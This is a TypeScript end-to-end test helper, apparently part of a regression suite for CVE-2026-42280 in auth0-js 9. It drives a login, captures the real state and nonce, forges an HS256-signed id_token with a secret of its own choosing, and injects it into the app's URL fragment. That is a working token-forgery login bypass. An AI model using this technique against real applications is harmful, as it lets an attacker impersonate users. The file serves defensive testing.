// A login response whose id_token is HS256-signed, as an attacker would forge it: the real state and
// nonce of a login started in this browser, and a real access token beside it. auth0-js 9 accepts it
// without verifying the signature (it asks /userinfo instead: CVE-2026-42280); auth0-js 10 refuses it.
import { SignJWT } from 'jose';
import type { E2ePage } from './support/driver/e2e-page';
import type { Stack } from './support/stack';

/** Starts a login in `page`, and comes back from the tenant with a forged id_token and `accessToken`. */
export async function returnWithForgedIdToken(page: E2ePage, stack: Stack, accessToken: string): Promise<void> {
  await page.goto(`${stack.appOrigin}/`);
  // The authorize request carries what auth0-js stored for this login (in a cookie of the app's origin).
  const [authorize] = await Promise.all([
    page.waitForRequest((request) => request.url().startsWith(`${stack.tenantOrigin}/authorize?`)),
    page.click('#qsLoginBtn'),
  ]);
  await page.waitForURL((url) => url.origin === stack.tenantOrigin);
  const params = new URL(authorize.url()).searchParams;
  const state = params.get('state');
  const nonce = params.get('nonce');
  if (!state || !nonce) throw new Error(`no state or nonce in ${page.url()}`);
  const now = Math.floor(Date.now() / 1000);
  const forged = await new SignJWT({ nonce, name: 'Mallory', email: 'mallory@example.com' })
    .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
    .setIssuer(`${stack.tenantOrigin}/`)
    .setAudience('local-dev-spa')
    .setSubject('auth0|mallory')
    .setIssuedAt(now)
    .setExpirationTime(now + 3600)
    .sign(new TextEncoder().encode('a secret the attacker chose, at least 32 bytes long'));
  const fragment = new URLSearchParams({
    access_token: accessToken,
    id_token: forged,
    token_type: 'Bearer',
    expires_in: '7200',
    state,
  });
  await page.goto(`${stack.appOrigin}/#${fragment.toString()}`);
}
